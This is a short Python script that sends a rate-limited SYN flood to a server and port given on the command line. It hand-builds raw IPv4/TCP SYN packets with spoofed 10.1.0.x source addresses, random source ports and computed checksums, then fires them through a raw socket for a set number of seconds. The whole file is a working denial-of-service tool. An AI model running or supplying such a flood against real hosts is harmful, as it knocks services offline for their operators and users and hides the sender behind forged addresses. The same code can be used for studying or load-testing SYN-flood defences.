"""A flood of first packets from hosts that aren't there: `flood.py SERVER PORT SECONDS RATE`."""

import random
import socket
import struct
import sys
import time

server, port, seconds, rate = sys.argv[1], *map(int, sys.argv[2:])
to = socket.inet_aton(server)
draw = random.Random(1)


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn():
    client = bytes([10, 1, 0, draw.randrange(3, 250)])
    ports = struct.pack(">HH", draw.randrange(1024, 65536), port)
    head = ports + struct.pack(">IIBBH", draw.getrandbits(32), 0, 0x50, 2, 64240)
    whole = client + to + struct.pack(">HH", 6, 20) + head + bytes(4)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + client + to
    return ip + head + struct.pack(">HH", checksum(whole), 0)


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
begun, sent = time.monotonic(), 0
while (passed := time.monotonic() - begun) < seconds:
    while sent < passed * rate:
        out.sendto(syn(), (server, 0))
        sent += 1
    time.sleep(0.005)
print(sent)
